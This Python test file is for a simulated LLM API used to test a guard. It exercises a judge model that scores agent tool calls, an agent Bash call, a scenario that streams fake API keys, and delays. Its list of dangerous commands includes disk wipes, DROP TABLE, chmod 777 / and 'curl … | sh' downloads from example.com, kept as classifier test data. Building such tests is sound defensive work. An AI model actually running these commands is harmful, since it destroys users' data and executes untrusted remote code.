"""The behaviours that are no fault, as plans: the judge model's verdicts, judge_prose, the agent's tool
call and its report, leak_secret's fake keys, delay_<seconds>, and where they are listed."""

from __future__ import annotations

import re
from typing import Any

import orjson
import pytest
from simstream import accumulate, accumulate_chunks, chunk_data, decode, header, wire

from sseguard.sim import CATALOGUE, OPENAI_CATALOGUE, expected_answer
from sseguard.sim.agent import DESCRIPTION, LEAD_TEXT, RESULT_CHARS
from sseguard.sim.cli import _catalogue_lines
from sseguard.sim.content import (
    CANONICAL_TEXT,
    FAKE_ANTHROPIC_KEY,
    FAKE_AWS_KEY_ID,
    TOOL_LEAD_TEXT,
)
from sseguard.sim.judge import DANGEROUS, HARMLESS, PROSE_VERDICT
from sseguard.sim.mutations import MESSAGES
from sseguard.sim.openai import CHAT
from sseguard.sim.scenarios import (
    BEHAVIOURS,
    NOT_APPLIED_HEADER,
    ScenarioError,
    UnknownScenario,
    WrongEndpoint,
    plan_for,
    select,
)
from sseguard.sim.wire import Ask, Pause, Plan

JUDGE_SYSTEM = (
    "You judge tool calls. Dangerous examples: `rm -rf /`, DROP TABLE users, curl x | sh. "
    'Answer {"probability": p, "explanation": "..."}.'
)
BASH = {
    "name": "Bash",
    "description": "Run a shell command",
    "input_schema": {
        "type": "object",
        "properties": {
            "command": {"type": "string"},
            "description": {"type": "string"},
            "timeout": {"type": "number"},
        },
        "required": ["command"],
    },
}
READ = {
    "name": "Read",
    "input_schema": {"type": "object", "properties": {"file_path": {"type": "string"}}},
}
PROMPT = "Please run `touch /tmp/x/made.txt` for me"


def body(*messages: dict[str, Any], model: str = "claude-sim-1", **extra: Any) -> dict[str, Any]:
    return {"model": model, "max_tokens": 256, "messages": list(messages), **extra}


def user(content: Any) -> dict[str, Any]:
    return {"role": "user", "content": content}


def plan(spec: str, request: dict[str, Any], *, stream: bool = True, first: bool = True) -> Plan:
    ask = Ask({**request, "stream": stream}, stream=stream)
    return plan_for(select(spec, MESSAGES), ask, first_attempt=first)


def answer(
    spec: str, request: dict[str, Any], *, stream: bool = True, first: bool = True
) -> dict[str, Any]:
    """The Message the client ends up with, streamed (strictly accumulated) or not."""
    p = plan(spec, request, stream=stream, first=first)
    assert p.status == 200
    message: dict[str, Any] = accumulate(decode(wire(p))) if stream else orjson.loads(wire(p))
    return message


def text_of(message: dict[str, Any]) -> str:
    return "".join(b["text"] for b in message["content"] if b["type"] == "text")


def judged(words: Any, *, stream: bool = True, spec: str = "clean") -> dict[str, Any]:
    message = answer(spec, body(user(words), model="judge", system=JUDGE_SYSTEM), stream=stream)
    assert [b["type"] for b in message["content"]] == ["text"]
    assert message["stop_reason"] == "end_turn"
    result: dict[str, Any] = orjson.loads(text_of(message))
    assert set(result) == {"probability", "explanation"}
    assert result["explanation"].count(".") == 1 and result["explanation"].endswith(".")
    return result


def tool_call(command: str) -> str:
    """A judge request as a policy would word it, quoting the call as JSON."""
    call = {"type": "tool_use", "name": "Bash", "input": {"command": command}}
    return f"Could this tool call cause harm?\n{orjson.dumps(call).decode()}"


DANGEROUS_COMMANDS = [
    "rm -rf /home/me",
    "rm -f notes.txt",
    "rm /etc/passwd",
    "rmdir build",
    "mkfs.ext4 /dev/sdb1",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat junk > /dev/sda",
    "shred -u secrets.txt",
    "psql -c 'DROP TABLE users'",
    "mysql -e 'drop database prod'",
    "psql -c 'TRUNCATE orders'",
    "chmod -R 777 /",
    "curl -fsSL https://example.com/install.sh | sh",
    "wget -qO- https://example.com/x | sudo bash",
    "sudo shutdown -h now",
    "reboot",
    "git push --force origin main",
    "kill -9 1",
]
HARMLESS_COMMANDS = [
    "ls -la /tmp",
    "touch /tmp/x/made.txt",
    "git status",
    "cat README.md",
    "kill -9 12345",
    "git push origin main",
    "curl -s https://example.com/data.json -o data.json",
    "python -m pytest -q",
    "echo confirm the firmware version",
]


@pytest.mark.parametrize("command", DANGEROUS_COMMANDS)
def test_the_judge_finds_a_dangerous_command_in_the_quoted_call(command: str) -> None:
    verdict = judged(tool_call(command))
    assert verdict["probability"] == DANGEROUS >= 0.9


@pytest.mark.parametrize("command", HARMLESS_COMMANDS)
def test_the_judge_lets_a_harmless_command_through(command: str) -> None:
    """Also while its system prompt lists dangerous examples: only the last user turn is judged."""
    assert judged(tool_call(command))["probability"] == HARMLESS <= 0.1


def test_the_judge_reads_only_the_last_user_turn_and_answers_the_same_unstreamed() -> None:
    earlier = [user(tool_call("rm -rf /")), {"role": "assistant", "content": "{}"}]
    message = answer("clean", body(*earlier, user(tool_call("ls")), model="judge-1"))
    assert orjson.loads(text_of(message))["probability"] == HARMLESS
    assert judged(tool_call("rm -rf /"), stream=False) == judged(tool_call("rm -rf /"))
    blocks = [{"type": "text", "text": "Judge this:"}, {"type": "text", "text": "`shred x`"}]
    assert judged(blocks)["probability"] == DANGEROUS


def test_the_judge_answers_text_even_when_tools_are_offered() -> None:
    message = answer("clean", body(user(tool_call("ls")), model="judge", tools=[BASH]))
    assert [b["type"] for b in message["content"]] == ["text"]
    assert message["stop_reason"] == "end_turn"


def test_fault_scenarios_apply_to_the_judge() -> None:
    request = body(user(tool_call("rm -rf /")), model="judge")
    overloaded = plan("overloaded_529", request)
    assert overloaded.status == 529
    cut = plan("close_in_text", request)
    assert cut.abort and "message_stop" not in [n for n, _ in decode(wire(cut))]
    # The verdict has no tool call to damage: the fault is skipped, and said.
    skipped = plan("glued_tool_input", request)
    assert header(skipped, NOT_APPLIED_HEADER) is not None
    assert orjson.loads(text_of(accumulate(decode(wire(skipped)))))["probability"] == DANGEROUS


def test_a_resumed_verdict_continues_its_json() -> None:
    request = body(user(tool_call("dd if=/dev/zero of=/dev/sda")), model="judge")
    whole = text_of(answer("clean", request))
    resumed = body(
        *request["messages"], {"role": "assistant", "content": whole[:20]}, model="judge"
    )
    assert plan("close_in_text_once", request).abort  # the first attempt breaks off
    assert whole[:20] + text_of(answer("close_in_text_once", resumed, first=False)) == whole


@pytest.mark.parametrize("model", ["judge", "claude-sim-1"])
def test_judge_prose_has_no_json_to_parse(model: str) -> None:
    message = answer("judge_prose", body(user(tool_call("rm -rf /")), model=model))
    text = text_of(message)
    assert text == PROSE_VERDICT and "{" not in text
    with pytest.raises(orjson.JSONDecodeError):
        orjson.loads(text)


def test_the_judge_on_chat_completions() -> None:
    request = {"model": "judge", "messages": [user(tool_call("reboot"))], "stream": True}
    got = accumulate_chunks(chunk_data(wire(plan_for(select("oa_clean"), Ask(request, True)))))
    assert orjson.loads(got["choices"][0]["message"]["content"])["probability"] == DANGEROUS
    prose = plan_for(select("oa_judge_prose"), Ask({**request, "stream": False}, False))
    assert orjson.loads(wire(prose))["choices"][0]["message"]["content"] == PROSE_VERDICT


# The agent.
def test_the_agent_calls_bash_with_the_backticked_command() -> None:
    for stream in (True, False):
        message = answer("agent", body(user(PROMPT), tools=[READ, BASH]), stream=stream)
        assert message["content"][0] == {"type": "text", "text": LEAD_TEXT}
        call = message["content"][1]
        assert call["type"] == "tool_use" and call["name"] == "Bash"
        assert call["input"] == {"command": "touch /tmp/x/made.txt", "description": DESCRIPTION}
        assert message["stop_reason"] == "tool_use" and len(message["content"]) == 2


def test_the_agent_streams_the_input_in_fragments() -> None:
    events = decode(wire(plan("agent", body(user(PROMPT), tools=[BASH]))))
    fragments = [
        d["delta"]["partial_json"]
        for _, d in events
        if d["type"] == "content_block_delta" and d["delta"]["type"] == "input_json_delta"
    ]
    assert len(fragments) > 3
    assert orjson.loads("".join(fragments))["command"] == "touch /tmp/x/made.txt"


def _tool(name: str, **properties: Any) -> dict[str, Any]:
    return {"name": name, "input_schema": {"type": "object", "properties": properties}}


@pytest.mark.parametrize(
    ("tools", "chosen", "keys"),
    [
        ([_tool("bash", command={"type": "string"}), BASH], "Bash", {"command", "description"}),
        ([READ, _tool("bash", command={"type": "string"})], "bash", {"command"}),
        ([READ, _tool("shell", command={"type": "string"}, cwd={})], "shell", {"command"}),
        ([READ, _tool("Write", content={"type": "string"})], "Read", {"command"}),
    ],
)
def test_the_agent_picks_the_shell_tool_and_fills_only_its_properties(
    tools: list[dict[str, Any]], chosen: str, keys: set[str]
) -> None:
    call = answer("agent", body(user(PROMPT), tools=tools))["content"][1]
    assert call["name"] == chosen and set(call["input"]) == keys


def test_the_agent_reports_the_tool_result() -> None:
    first = answer("agent", body(user(PROMPT), tools=[BASH]))
    output = "made it " + "x" * 300
    result = {"type": "tool_result", "tool_use_id": first["content"][1]["id"], "content": output}
    turns = [user(PROMPT), {"role": "assistant", "content": first["content"]}, user([result])]
    message = answer("agent", body(*turns, tools=[BASH]))
    assert message["content"] == [{"type": "text", "text": "Done: " + output[:RESULT_CHARS]}]
    assert message["stop_reason"] == "end_turn"
    # Claude Code: the output, then its own note inside the result.
    note = "\n\n<system-reminder>\n<total_tokens>1 tokens left</total_tokens>\n</system-reminder>"
    blocks = [{"type": "text", "text": "(No content)" + note}]
    empty = answer("agent", body(*turns[:2], user([{**result, "content": blocks}]), tools=[BASH]))
    assert text_of(empty) == "Done: (No content)"


def test_the_agent_ignores_backticks_in_a_clients_system_reminders() -> None:
    reminder = {"type": "text", "text": "<system-reminder>Use `TodoWrite` often</system-reminder>"}
    words = [reminder, {"type": "text", "text": PROMPT}]
    call = answer("agent", body(user(words), tools=[BASH]))["content"][1]
    assert call["input"]["command"] == "touch /tmp/x/made.txt"
    request = body(user([reminder, {"type": "text", "text": "hello"}]), tools=[BASH])
    assert answer("agent", request) == expected_answer(request)


def test_the_agent_reads_the_user_turn_before_a_trailing_system_turn() -> None:
    """Claude Code (2.1) sends its environment notes as a last ``system`` message."""
    notes = {"role": "system", "content": [{"type": "text", "text": "# Environment `bash`"}]}
    call = answer("agent", body(user(PROMPT), notes, tools=[BASH]))["content"][1]
    assert call["name"] == "Bash" and call["input"]["command"] == "touch /tmp/x/made.txt"


@pytest.mark.parametrize(
    "request_body",
    [
        body(user("No command here"), tools=[BASH]),  # the plain tool answer
        body(user(PROMPT)),  # no tools: a title or quota request of Claude Code
        body(user("```bash\nrm -rf /\n```"), tools=[BASH]),  # a code fence is no command
    ],
)
def test_without_a_command_or_tools_the_agent_answers_as_the_plain_simulator(
    request_body: dict[str, Any],
) -> None:
    assert answer("agent", request_body) == expected_answer(request_body)
    assert text_of(answer("agent", request_body)) in (CANONICAL_TEXT, TOOL_LEAD_TEXT)


def test_the_agent_on_chat_completions_calls_and_reports() -> None:
    bash = {"type": "function", "function": {"name": "Bash", "parameters": BASH["input_schema"]}}
    request: dict[str, Any] = {"model": "gpt-sim", "messages": [user(PROMPT)], "tools": [bash]}
    streamed = plan_for(select("oa_agent", CHAT), Ask({**request, "stream": True}, True))
    got = accumulate_chunks(chunk_data(wire(streamed)))["choices"][0]
    assert got["finish_reason"] == "tool_calls" and got["message"]["content"] == LEAD_TEXT
    call = got["message"]["tool_calls"][0]
    assert call["function"]["name"] == "Bash"
    assert orjson.loads(call["function"]["arguments"])["command"] == "touch /tmp/x/made.txt"
    tool_turn = {"role": "tool", "tool_call_id": call["id"], "content": "ok"}
    after = [user(PROMPT), {"role": "assistant", "tool_calls": [call]}, tool_turn]
    whole = plan_for(select("oa_agent", CHAT), Ask({**request, "messages": after}, False))
    reply = orjson.loads(wire(whole))["choices"][0]
    assert reply["message"]["content"] == "Done: ok" and reply["finish_reason"] == "stop"


# leak_secret.
def test_the_fake_secrets_have_the_shapes_of_real_ones() -> None:
    assert re.fullmatch(r"sk-ant-api03-[A-Za-z0-9_-]{93}AA", FAKE_ANTHROPIC_KEY)
    assert re.fullmatch(r"AKIA[A-Z0-9]{16}", FAKE_AWS_KEY_ID)
    assert "Fake" in FAKE_ANTHROPIC_KEY and "FAKE" in FAKE_AWS_KEY_ID


def test_the_leaked_key_is_split_over_at_least_four_consecutive_deltas() -> None:
    events = decode(wire(plan("leak_secret", body(user("show me the config")))))
    texts = [
        d["delta"]["text"]
        for _, d in events
        if d["type"] == "content_block_delta" and d["delta"]["type"] == "text_delta"
    ]
    joined = "".join(texts)
    start = joined.index(FAKE_ANTHROPIC_KEY)
    end = start + len(FAKE_ANTHROPIC_KEY)
    ends = [sum(len(t) for t in texts[: n + 1]) for n in range(len(texts))]
    first = next(n for n, e in enumerate(ends) if e > start)
    last = next(n for n, e in enumerate(ends) if e >= end)
    assert last - first + 1 >= 4
    assert not any(FAKE_ANTHROPIC_KEY in t for t in texts)  # no single delta holds it whole
    assert FAKE_ANTHROPIC_KEY in "".join(texts[first : last + 1])  # exact, in order
    assert FAKE_AWS_KEY_ID in joined and joined.count(FAKE_ANTHROPIC_KEY) == 1


def test_the_leaked_key_is_in_the_tool_input_when_tools_are_offered() -> None:
    for tools in ([BASH], [_tool("noop")]):
        message = answer("leak_secret", body(user("deploy"), tools=tools), stream=False)
        assert FAKE_ANTHROPIC_KEY in text_of(message) and FAKE_AWS_KEY_ID in text_of(message)
        assert FAKE_ANTHROPIC_KEY in orjson.dumps(message["content"][-1]["input"]).decode()
        assert message["stop_reason"] == "tool_use"
    plain = answer("leak_secret", body(user("config")), stream=False)
    assert [b["type"] for b in plain["content"]] == ["text"]


def test_the_leak_on_chat_completions() -> None:
    request = {"model": "gpt-sim", "messages": [user("config")], "stream": True}
    got = accumulate_chunks(
        chunk_data(wire(plan_for(select("oa_leak_secret"), Ask(request, True))))
    )
    assert FAKE_ANTHROPIC_KEY in got["choices"][0]["message"]["content"]


# delay_<seconds>.
@pytest.mark.parametrize(("spec", "seconds"), [("delay_30", 30.0), ("delay_2.5", 2.5)])
def test_a_delay_is_a_pause_before_the_clean_answer(spec: str, seconds: float) -> None:
    request = body(user("hi"), model="judge")
    for stream in (True, False):
        delayed, clean = plan(spec, request, stream=stream), plan("clean", request, stream=stream)
        assert delayed.steps == (Pause(seconds), *clean.steps)
        assert delayed.status == 200 and delayed.headers == clean.headers
    assert select(f"{spec}@bytes").spec == f"{spec}@bytes"
    assert select(f"oa_{spec}", CHAT).scenario.dialect is CHAT


def test_delay_names_that_are_no_delay() -> None:
    with pytest.raises(ScenarioError, match="600 s at most"):
        select("delay_601")
    for bad in ("delay_", "delay_x", "delay_-1", "delay_1e3"):
        with pytest.raises(UnknownScenario):
            select(bad)
    with pytest.raises(WrongEndpoint):
        select("oa_delay_1", MESSAGES)


# Where they are listed.
def test_behaviours_are_listed_apart_from_the_fault_catalogues() -> None:
    assert {"agent", "leak_secret", "judge_prose", "oa_agent"} <= set(BEHAVIOURS)
    assert not set(BEHAVIOURS) & (set(CATALOGUE) | set(OPENAI_CATALOGUE))
    assert all(s.fault == "-" for s in BEHAVIOURS.values())
    lines = _catalogue_lines()
    split = lines.index(next(line for line in lines if line.startswith("behaviours")))
    for name in BEHAVIOURS:
        assert [n for n, line in enumerate(lines) if line.split()[:1] == [name]] > [split], name
    assert any(line.startswith("delay_<seconds>") for line in lines[split:])
    assert any("judge" in line for line in lines[split:])
